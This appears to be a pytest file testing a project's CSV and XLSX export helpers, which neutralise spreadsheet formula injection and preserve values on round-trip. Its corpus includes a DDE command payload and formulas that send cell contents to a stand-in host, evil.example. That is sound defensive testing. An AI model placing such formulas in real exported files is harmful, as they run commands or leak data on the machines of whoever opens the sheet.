"""What leaves in a file for a spreadsheet runs nowhere, and comes back to the letter."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from career_relay.base.sheets import (
    STARTS_A_FORMULA,
    XLSX,
    cell,
    original,
    sheet,
    sheet_response,
    workbook,
    xlsx_response,
)

# Fifteen ways to begin a cell that somebody's spreadsheet runs (OWASP “CSV Injection”, and what stands before it).
PREFIXES = [
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", '"=', ";=", "|=",
]  # fmt: skip
PAYLOADS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"click")',
    "1+1",
    "SUM(1,1)",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
]  # fmt: skip
CORPUS = [prefix + payload for prefix in PREFIXES for payload in PAYLOADS]
HARMLESS = ["三浦 沙織", "C++", "a-b", "x=1", "'90年代", "'", "''", "", "’", "5", "2026/03/05", "メモ\n=ではない"]
TEXT = st.text(alphabet=st.sampled_from("=+-@＝＋－＠'\"’;|, \u3000\t\r\na1あ"), max_size=8)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_cells(content: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


@pytest.mark.parametrize("text", CORPUS)
def test_text_that_would_run_is_written_with_a_mark_in_front_of_everything(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert cell(text) == text
    assert original(text) == text


@pytest.mark.parametrize("text", [*CORPUS, *HARMLESS, "'=1", "''=1", "' =1", "'\"=1"])
def test_a_csv_file_gives_back_what_was_put_in(text):
    [[read]] = csv_cells(sheet([[text]])) or [[""]]

    assert original(read) == text


@given(TEXT)
def test_whatever_stands_in_a_cell_comes_back_and_runs_nowhere(text):
    written = cell(text)

    assert original(written) == text
    assert not written.lstrip(" \u3000").startswith(STARTS_A_FORMULA)


def test_numbers_stay_numbers_and_nothing_stays_nothing():
    assert [cell(value) for value in (-5, -1.5, Decimal("-0.5"), None)] == ["-5", "-1.5", "-0.5", ""]


def test_a_csv_file_is_marked_as_utf8_and_named():
    answer = sheet_response([["氏名"], ["=1"]], "people")

    assert answer.content.decode() == "\ufeff氏名\r\n'=1\r\n"
    assert (answer["Content-Type"], answer["Content-Disposition"]) == (
        "text/csv; charset=utf-8",
        'attachment; filename="people.csv"',
    )


def test_a_workbook_holds_every_text_of_the_corpus_as_text():
    content = workbook([["text"], *([text] for text in CORPUS)])

    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        page = packed.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in page
    assert page.count('t="inlineStr"') == len(CORPUS) + 1


@pytest.mark.parametrize("text", [*CORPUS, *filter(None, HARMLESS), "a_x0041_b", " 余白 ", "改\r\n行"])
def test_a_workbook_gives_back_what_was_put_in(text):
    [_heading, [read]] = xlsx_cells(workbook([["text"], [text]]))

    assert read == text


def test_a_workbook_keeps_figures_days_and_blanks():
    moment = datetime(2026, 11, 23, 3, 30, tzinfo=UTC)

    rows = xlsx_cells(workbook([["a", "b", "c", "d", "e"], [7, Decimal("1.5"), date(2026, 3, 5), None, moment]]))

    assert rows[1] == [7, 1.5, date(2026, 3, 5), "", datetime.fromisoformat("2026-11-23T12:30")]


def test_a_text_no_cell_can_hold_is_cut_where_it_shows():
    [_heading, [read]] = xlsx_cells(workbook([["text"], ["あ" * 40_000]]))

    assert (len(read), read[-2:]) == (32_767, "あ…")


@pytest.mark.parametrize("title", ["選考[1]: a/b?", "x" * 40, "'quoted'", "History", ""])
def test_any_title_becomes_a_name_excel_allows(title):
    assert xlsx_cells(workbook([["a"]], title=title)) == [["a"]]


def test_more_rows_than_a_sheet_has_are_refused(monkeypatch):
    monkeypatch.setattr("career_relay.base.sheets._MOST_ROWS", 2)

    with pytest.raises(ValueError, match="more than 2 rows"):
        workbook([["a"], ["b"], ["c"]])


def test_a_workbook_is_answered_as_a_file():
    answer = xlsx_response([["氏名"], ["=1"]], "people", title="候補者")

    assert xlsx_cells(answer.content) == [["氏名"], ["=1"]]
    assert (answer["Content-Type"], answer["Content-Disposition"]) == (XLSX, 'attachment; filename="people.xlsx"')
